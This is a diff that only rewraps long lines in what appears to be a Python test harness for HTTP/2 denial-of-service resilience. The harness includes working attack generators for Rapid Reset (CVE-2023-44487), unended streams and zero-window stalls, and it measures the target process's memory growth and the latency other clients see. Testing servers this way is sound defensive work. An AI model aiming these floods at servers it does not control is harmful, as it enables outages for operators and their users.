@@ -105,7 +105,8 @@ class Attacker:
 def rapid_reset(attacker: Attacker) -> Iterator[bytes]:
     """CVE-2023-44487: requests that are withdrawn at once occupy no stream, but all of the work."""
     for stream in range(1, 1 << 30, 200):
-        yield b"".join(attacker.head(each, None, "END_STREAM") + RstStreamFrame(each, error_code=8).serialize()
+        yield b"".join(attacker.head(each, None, "END_STREAM")
+                       + RstStreamFrame(each, error_code=8).serialize()
                        for each in range(stream, stream + 200, 2))
 
 
@@ -175,7 +176,8 @@ def window_updates(attacker: Attacker) -> Iterator[bytes]:
 def streams_without_end(attacker: Attacker) -> Iterator[bytes]:
     """As many open requests as the server lets be, and beyond."""
     for stream in range(1, 1 << 30, 200):
-        yield b"".join(attacker.head(each, [(":method", "POST"), *HEAD[1:]]) for each in range(stream, stream + 200, 2))
+        yield b"".join(attacker.head(each, [(":method", "POST"), *HEAD[1:]])
+                       for each in range(stream, stream + 200, 2))
 
 
 def zero_window(attacker: Attacker) -> Iterator[bytes]:
@@ -219,7 +221,8 @@ def resident(pid: int) -> int:
     while wanted:
         folder = Path("/proc") / str(wanted.pop())
         with contextlib.suppress(OSError, ValueError):
-            total += int((folder / "statm").read_text(encoding="ascii").split()[1]) * os.sysconf("SC_PAGE_SIZE")
+            pages = int((folder / "statm").read_text(encoding="ascii").split()[1])
+            total += pages * os.sysconf("SC_PAGE_SIZE")
             for task in (folder / "task").iterdir():
                 wanted += [int(each) for each in (task / "children").read_text(encoding="ascii").split()]
     return total
@@ -243,7 +246,8 @@ def served(port: int) -> float:
     raise TimeoutError("no answer")
 
 
-def attack(port: int, pid: int, how: Callable[[Attacker], Iterator[bytes]], options: dict) -> tuple[bool, str]:
+def attack(port: int, pid: int, how: Callable[[Attacker], Iterator[bytes]],
+           options: dict) -> tuple[bool, str]:
     before, highest, slowest, trouble = resident(pid), 0, 0.0, ""
     attacker, sent, begun = Attacker(port, **options), 0, time.monotonic()
     asked = begun
@@ -276,8 +280,9 @@ def attack(port: int, pid: int, how: Callable[[Attacker], Iterator[bytes]], opti
     if highest > GROWTH_MAX:
         trouble = trouble or "it grew beyond the bound"
     seconds = time.monotonic() - begun
-    return not trouble, (f"{trouble}{'; ' if trouble else ''}{sent >> 10} KiB in {seconds:.1f} s, grew by {highest >> 10} KiB, "
-                         f"others waited {slowest * 1000:.0f} ms at most, {attacker.end or 'not ended'}")
+    return not trouble, (f"{trouble}{'; ' if trouble else ''}{sent >> 10} KiB in {seconds:.1f} s, "
+                         f"grew by {highest >> 10} KiB, others waited {slowest * 1000:.0f} ms at most, "
+                         f"{attacker.end or 'not ended'}")
 
 
 def main(port: int, pid: int) -> int:
